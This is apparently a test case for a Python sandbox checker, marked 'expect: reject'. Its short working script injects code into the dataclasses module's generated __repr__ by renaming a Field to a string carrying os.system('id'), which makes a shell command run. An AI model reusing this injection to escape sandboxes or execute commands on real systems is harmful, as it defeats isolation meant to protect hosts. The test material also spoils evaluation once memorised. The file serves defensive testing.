# expect: reject module_attribute
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: the class body reads the name a field(...) is bound to and hands the
#   Field to a helper before @dataclass replaces it; the Field stays in the
#   class's fields and is reused by every dataclass subclass, whose generated
#   __repr__ pastes the name the program wrote into it afterwards.
# Goal reached: code injected into dataclasses' exec; ran a process (id).
import dataclasses

kept = []


def keep(f):
    kept.append(f)
    return 0


@dataclasses.dataclass(init=False, eq=False)
class Base:
    b: int = dataclasses.field(default=0)
    c: int = keep(b)


kept[0].name = "b or{__import__('os').system('id')}"


@dataclasses.dataclass(init=False, eq=False)
class Sub(Base):
    pass


print(repr(Sub()))
